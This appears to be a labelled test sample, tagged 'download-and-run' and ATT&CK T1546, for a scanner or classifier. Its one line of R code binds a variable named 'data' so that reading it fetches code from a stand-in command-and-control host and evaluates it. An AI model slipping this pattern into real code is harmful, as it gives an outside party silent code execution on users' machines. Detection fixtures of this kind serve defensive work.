# expect: download-and-run | source: T1546
makeActiveBinding("data", function() eval(parse(text = readLines("https://c2.example.invalid/a.R"))), environment())
